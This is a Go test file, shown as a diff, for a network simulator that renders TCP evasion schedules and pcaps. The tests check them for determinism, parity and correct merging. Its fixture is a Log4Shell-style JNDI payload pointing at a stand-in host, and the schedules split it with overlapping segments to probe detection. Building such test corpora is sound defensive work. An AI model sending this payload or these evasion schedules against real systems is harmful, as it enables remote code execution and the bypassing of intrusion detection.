@@ -1,0 +1,208 @@
+package netsim
+
+import (
+	"bytes"
+	"io"
+	"testing"
+	"time"
+
+	"repro/internal/packet"
+	"repro/internal/pcapio"
+)
+
+var (
+	evAttack = []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n")
+	evDecoy  = benignTwin(evAttack)
+	evStart  = time.Date(2022, 1, 5, 10, 0, 0, 0, time.UTC)
+)
+
+// benignTwin derives an equally long, signature-free request from the attack
+// by overwriting the query with static-asset padding.
+func benignTwin(attack []byte) []byte {
+	d := append([]byte(nil), attack...)
+	for i := len("GET /"); i < len(d)-len(" HTTP/1.1\r\n\r\n"); i++ {
+		d[i] = 'a' + byte(i%26)
+	}
+	return d
+}
+
+func evasionCorpus(t testing.TB) []EvasionCase {
+	t.Helper()
+	cases, err := EvasionCases(evAttack, evDecoy, 12, 10*time.Minute)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cases
+}
+
+func TestEvasionCasesValidation(t *testing.T) {
+	if _, err := EvasionCases([]byte("short"), []byte("short"), 2, time.Minute); err == nil {
+		t.Error("accepted a too-short attack payload")
+	}
+	if _, err := EvasionCases(evAttack, evDecoy[:10], 5, time.Minute); err == nil {
+		t.Error("accepted mismatched payload lengths")
+	}
+	if _, err := EvasionCases(evAttack, evDecoy, 0, time.Minute); err == nil {
+		t.Error("accepted a boundary outside the payload")
+	}
+	if _, err := EvasionCases(evAttack, evDecoy, 5, time.Millisecond); err == nil {
+		t.Error("accepted a sub-second idle horizon")
+	}
+	cases := evasionCorpus(t)
+	if len(cases) < 8 {
+		t.Fatalf("corpus has %d cases, want at least 8", len(cases))
+	}
+	ambiguous := 0
+	names := map[string]bool{}
+	for _, c := range cases {
+		if c.Name == "" || c.Info == "" {
+			t.Errorf("case %+v lacks name or info", c)
+		}
+		if names[c.Name] {
+			t.Errorf("duplicate case name %q", c.Name)
+		}
+		names[c.Name] = true
+		if c.ExpectAmbiguous {
+			ambiguous++
+		}
+	}
+	if ambiguous < 2 {
+		t.Errorf("only %d cases expect ambiguity; the conflicting-overlap primitives are missing", ambiguous)
+	}
+}
+
+// TestEvasionStreamPcapParity: the lazy blueprint and the materialized pcap
+// must agree frame for frame — timestamps and bytes — for every case, both
+// schedules.
+func TestEvasionStreamPcapParity(t *testing.T) {
+	cases := evasionCorpus(t)
+	for i := range cases {
+		c := &cases[i]
+		t.Run(c.Name, func(t *testing.T) {
+			client, server := EvasionEndpoints(42, i)
+			for _, sched := range []struct {
+				name   string
+				stream func() *ScheduleSource
+				pcap   func(w *bytes.Buffer) error
+			}{
+				{"evasion",
+					func() *ScheduleSource { return c.Stream(42, client, server, evStart) },
+					func(w *bytes.Buffer) error { return c.WritePcap(w, 42, client, server, evStart) }},
+				{"baseline",
+					func() *ScheduleSource { return c.BaselineStream(42, client, server, evStart) },
+					func(w *bytes.Buffer) error { return c.WriteBaselinePcap(w, 42, client, server, evStart) }},
+			} {
+				var buf bytes.Buffer
+				if err := sched.pcap(&buf); err != nil {
+					t.Fatal(err)
+				}
+				r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
+				if err != nil {
+					t.Fatal(err)
+				}
+				src := sched.stream()
+				n := 0
+				for {
+					want, werr := src.Next()
+					got, gerr := r.Next()
+					if (werr == io.EOF) != (gerr == io.EOF) {
+						t.Fatalf("%s: stream and pcap end at different frames (%v vs %v)", sched.name, werr, gerr)
+					}
+					if werr == io.EOF {
+						break
+					}
+					if werr != nil || gerr != nil {
+						t.Fatal(werr, gerr)
+					}
+					if !got.Timestamp.Equal(want.Timestamp) || !bytes.Equal(got.Data, want.Data) {
+						t.Fatalf("%s: frame %d differs between stream and pcap", sched.name, n)
+					}
+					n++
+				}
+				if n < 5 {
+					t.Fatalf("%s: schedule renders only %d frames", sched.name, n)
+				}
+			}
+		})
+	}
+}
+
+// TestEvasionScheduleDeterminism: equal (case, seed, endpoints, start) must
+// render byte-identical schedules; a different seed must move the ISNs.
+func TestEvasionScheduleDeterminism(t *testing.T) {
+	cases := evasionCorpus(t)
+	c := &cases[0]
+	client, server := EvasionEndpoints(7, 0)
+	render := func(seed int64) []pcapio.Packet {
+		var out []pcapio.Packet
+		src := c.Stream(seed, client, server, evStart)
+		for {
+			p, err := src.Next()
+			if err == io.EOF {
+				return out
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			out = append(out, p)
+		}
+	}
+	a, b := render(3), render(3)
+	if len(a) != len(b) {
+		t.Fatalf("renders differ in length: %d vs %d", len(a), len(b))
+	}
+	for i := range a {
+		if !bytes.Equal(a[i].Data, b[i].Data) {
+			t.Fatalf("frame %d differs across identical renders", i)
+		}
+	}
+	other := render(4)
+	if bytes.Equal(a[0].Data, other[0].Data) {
+		t.Error("different seeds rendered identical SYNs (ISN not seeded)")
+	}
+}
+
+// TestEvasionCaptureMerge: the combined capture interleaves every case in
+// timestamp order and is itself deterministic.
+func TestEvasionCaptureMerge(t *testing.T) {
+	cases := evasionCorpus(t)
+	all, err := EvasionCapture(cases, 42, evStart)
+	if err != nil {
+		t.Fatal(err)
+	}
+	base, err := BaselineCapture(cases, 42, evStart)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(all) <= len(base) {
+		t.Errorf("evasion capture has %d frames, baseline %d; evasion schedules should be busier", len(all), len(base))
+	}
+	for i := 1; i < len(all); i++ {
+		if all[i].Timestamp.Before(all[i-1].Timestamp) {
+			t.Fatalf("capture not time-ordered at frame %d", i)
+		}
+	}
+	again, err := EvasionCapture(cases, 42, evStart)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(again) != len(all) {
+		t.Fatalf("re-render changed frame count: %d vs %d", len(again), len(all))
+	}
+	for i := range all {
+		if !bytes.Equal(again[i].Data, all[i].Data) {
+			t.Fatalf("re-render changed frame %d", i)
+		}
+	}
+	// Distinct clients per case so the flows shard independently.
+	flows := map[packet.Flow]bool{}
+	var dec packet.Packet
+	for _, f := range all {
+		if packet.DecodeInto(&dec, f.Data) == nil {
+			flows[dec.Flow().Canonical()] = true
+		}
+	}
+	if len(flows) != len(cases) {
+		t.Errorf("combined capture carries %d flows, want %d (one per case)", len(flows), len(cases))
+	}
+}
